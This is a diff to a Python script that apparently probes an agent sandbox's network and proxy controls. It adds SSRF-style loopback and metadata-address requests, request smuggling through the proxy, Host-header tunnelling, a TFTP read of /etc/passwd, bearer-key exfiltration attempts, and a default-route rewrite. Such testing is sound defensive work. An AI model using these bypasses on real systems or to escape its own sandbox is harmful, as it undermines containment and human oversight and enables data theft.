@@ -3,7 +3,11 @@ import base64, json, os, socket, ssl, struct, subprocess, sys, time
 
 PLAN = json.loads(sys.argv[1])
 OWN, OUTSIDE, OTHER = PLAN['own'], PLAN['outside'], PLAN['other']
-WAIT = 6
+# Behind the second wall the proxy is the only way out, and what does not take it is tried by itself.
+BY_PROXY = PLAN['wall'] == 'proxy' and PLAN['set'] != 'direct'
+PROXY = ('127.0.0.1', 3128)
+# There the network drops in silence what it refuses.
+WAIT = 2 if PLAN['set'] == 'direct' else 6
 
 
 def receive(sock):
@@ -23,12 +27,36 @@ def receive(sock):
     return got
 
 
+def tunnelled(sock, address, port):
+    sock.connect(PROXY)
+    sock.sendall(f'CONNECT {address}:{port} HTTP/1.1\r\nHost: {address}:{port}\r\n\r\n'.encode())
+    head = b''
+    while b'\r\n\r\n' not in head:
+        chunk = sock.recv(1)
+        if not chunk:
+            break
+        head += chunk
+    if b' 200 ' not in head.split(b'\r\n')[0]:
+        raise OSError(f'proxy: {head[:80]!r}')
+
+
+def proxied(data):
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
+        sock.settimeout(WAIT)
+        sock.connect(PROXY)
+        sock.sendall(data)
+        return receive(sock)
+
+
 def tcp(address, port, data=b'', sni=None, source=None, family=socket.AF_INET):
     with socket.socket(family, socket.SOCK_STREAM) as sock:
         sock.settimeout(WAIT)
         if source is not None:
             sock.bind((source, 0))
-        sock.connect((address, port))
+        if BY_PROXY and source is None and family == socket.AF_INET:
+            tunnelled(sock, address, port)
+        else:
+            sock.connect((address, port))
         if sni is not None:
             context = ssl.create_default_context()
             # The machine's own authority stands behind what its keeper ends.
@@ -76,6 +104,8 @@ def unix(path):
 
 
 def by_name(name):
+    if BY_PROXY:
+        return tcp(name, 80, http(name))
     found = sorted({one[4][0] for one in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)})
     return b' '.join([repr(found).encode(), *(tcp(one, 80, http(name)) for one in found if ':' not in one)])
 
@@ -90,7 +120,27 @@ def rebound(name):
     return tcp(OUTSIDE, 80, http(name))
 
 
+def tunnel_by_host(zone, count):
+    told = 0
+    for index in range(count):
+        name = f'{os.urandom(24).hex()}.{index}.{zone}'
+        try:
+            with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
+                sock.settimeout(WAIT)
+                if BY_PROXY:
+                    tunnelled(sock, name, 80)
+                else:
+                    sock.connect((OUTSIDE, 80))
+                sock.sendall(http(name))
+                told += b' 200 ' in sock.recv(4096)[:16]
+        except OSError:
+            pass
+    return f'{told} of {count} answered'.encode()
+
+
 def tunnel(zone, count):
+    if BY_PROXY:
+        return tunnel_by_host(zone, count)
     told = 0
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.settimeout(1)
@@ -105,7 +155,7 @@ def tunnel(zone, count):
 
 
 def interface():
-    return json.loads(command('ip', '-j', 'route', 'show', 'default'))[0]['dev']
+    return next(one for one in os.listdir('/sys/class/net') if one != 'lo')
 
 
 def with_address(text, attempt):
@@ -180,6 +230,7 @@ NETWORK = {
     'the resolver of the host': lambda: udp(PLAN['resolver'], 53, question(FORBIDDEN)),
     'the resolver of the host, TCP': lambda: tcp(PLAN['resolver'], 53, struct.pack('>H', 30) + question(FORBIDDEN)),
     'DNS tunnel': lambda: tunnel('tunnel.test', 600),
+    'DNS tunnel by Host headers': lambda: tunnel_by_host('by-host.test', 300),
     **{
         f'rebinding, {name}': (lambda name=name: by_name(f'{name}.test'))
         for name in ['to-loopback', 'to-metadata', 'to-private', 'to-own', 'to-six', 'to-mapped', 'to-zero']
@@ -253,13 +304,78 @@ SECRETS = {
     'a server with a false certificate': lambda: tcp(OUTSIDE, 443, http('false.test', extra=f'Authorization: Bearer {KEY}\r\n'), sni='false.test'),
 }
 
+def absolute(url, extra=''):
+    host = url.split('/')[2]
+    return proxied(f'GET {url} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n'.encode())
+
+
+PROXIED = {
+    **{
+        f'proxy, GET {url}': (lambda url=url: absolute(url))
+        for url in [
+            'http://127.0.0.1:5432/', 'http://localhost:5432/', 'http://127.1:5432/', 'http://2130706433:5432/',
+            'http://0x7f.1:5432/', 'http://[::1]:5432/', 'http://[::ffff:127.0.0.1]:5432/', 'http://10.0.2.2:5432/',
+            'http://host.agentvm.internal:5432/', f'http://{OWN}/', f'http://{OWN}:5432/', 'http://169.254.169.254/',
+            'http://10.66.0.1/', 'http://to-loopback.test/', 'http://to-own.test/', f'http://{NAME}:25/',
+            f'http://{NAME}@127.0.0.1:5432/', 'http://127.0.0.1:3128/',
+        ]
+    },
+    **{
+        f'proxy, CONNECT {target}': (lambda target=target: tcp(*target.rsplit(':', 1)))
+        for target in [
+            'localhost:5432', '127.1:5432', '2130706433:5432', '127.0.0.2:5432', '[::1]:5432', '[::]:5432',
+            '[::ffff:127.0.0.1]:5432', '[64:ff9b::7f00:1]:80', '[2001:db8::1]:80', f'[::ffff:{OWN}]:80',
+            'host.agentvm.internal:5432', '127.0.0.1:3128', f'127.0.0.1:{PLAN["sshPort"]}', f'{NAME}:25', f'{NAME}:5432',
+        ]
+    },
+    'proxy, CONNECT within a tunnel': lambda: tcp(OUTSIDE, 80, b'CONNECT 127.0.0.1:5432 HTTP/1.1\r\nHost: x\r\n\r\nESCAPE\n'),
+    'proxy, CONNECT behind a request': lambda: proxied(
+        f'GET http://{NAME}/ HTTP/1.1\r\nHost: {NAME}\r\n\r\nCONNECT 127.0.0.1:5432 HTTP/1.1\r\nHost: x\r\n\r\nESCAPE\n'.encode()),
+    'proxy, a request behind a request': lambda: proxied(
+        http(NAME, f'http://{NAME}/') + http('127.0.0.1:5432', 'http://127.0.0.1:5432/second')),
+    'proxy, another Host than the target': lambda: proxied(http('127.0.0.1:5432', f'http://{NAME}/')),
+    'proxy, a request without a Host': lambda: proxied(b'GET / HTTP/1.0\r\n\r\n'),
+    'proxy, no HTTP': lambda: proxied(b'\x05\x01\x00' * 10),
+}
+
+# What goes past the proxy, or needs no network at all.
+DIRECT = {
+    **{
+        f'past the proxy, {address}:{port}': (lambda address=address, port=port: tcp(address, port, http(address)))
+        for address, port in [
+            (OUTSIDE, 80), (OUTSIDE, 443), (OUTSIDE, 22), (OUTSIDE, 53), (OWN, 80), (OWN, 5432), ('10.0.2.2', 5432),
+            ('10.0.2.2', 80), ('10.0.2.2', PLAN['sshPort']), ('10.0.2.3', 5432), ('10.0.2.4', 5432), ('10.0.2.3', 53),
+            ('10.0.2.100', 3128), ('169.254.169.254', 80), ('10.66.0.1', 80),
+        ]
+    },
+    'past the proxy, TFTP of the user network': lambda: udp('10.0.2.2', 69, b'\0\1/etc/passwd\0octet\0'),
+    'past the proxy, DNS tunnel': lambda: tunnel('tunnel.test', 5),
+    **{
+        name: attempt
+        for name, attempt in NETWORK.items()
+        if name.split(' ')[0] in ('UDP', 'ICMP', 'IPv6', 'IPv6-mapped', 'another', 'a', 'abstract', 'socket')
+        or name == 'the resolver of the host'
+    },
+}
+if BY_PROXY:
+    NETWORK = {**{name: one for name, one in NETWORK.items() if name not in DIRECT}, **PROXIED}
+    ALLOW_MODE['a name that is not allowed, tunnel'] = lambda: tcp(FORBIDDEN, 443, http(FORBIDDEN), sni=FORBIDDEN)
+    ALLOW_MODE['a name that is not allowed, request'] = lambda: absolute(f'http://{FORBIDDEN}/')
+    ALLOW_MODE['another SNI than the tunnel'] = lambda: tcp(NAME, 443, http(FORBIDDEN), sni=FORBIDDEN)
+    ALLOW_MODE['another Host than the tunnel'] = lambda: tcp(NAME, 80, http(FORBIDDEN))
+    SECRETS['placeholder by plain HTTP, request'] = lambda: absolute(f'http://{API}/', f'Authorization: Bearer {KEY}\r\n')
+    SECRETS['placeholder to another host, request'] = lambda: absolute(f'http://{NAME}/', f'X-Key: {KEY}\r\n')
+
 CONTROLS = {
     'HTTP': lambda: tcp(OUTSIDE, 80, http(NAME, '/control')),
     'TLS': lambda: tcp(OUTSIDE, 443, http(NAME, '/control'), sni=NAME),
     'a name': lambda: by_name(NAME),
 }
 
-SETS = {'network': NETWORK, 'allow': ALLOW_MODE, 'none': NONE_MODE, 'secrets': SECRETS, 'controls': CONTROLS}
+SETS = {'network': NETWORK, 'direct': DIRECT, 'allow': ALLOW_MODE, 'none': NONE_MODE, 'secrets': SECRETS, 'controls': CONTROLS}
+if PLAN['set'] == 'direct':
+    # The restricted network tells of no way out; who wants one makes one up.
+    command('ip', 'route', 'replace', 'default', 'via', '10.0.2.2', 'dev', interface())
 for name, attempt in SETS[PLAN['set']].items():
     try:
         got = attempt()
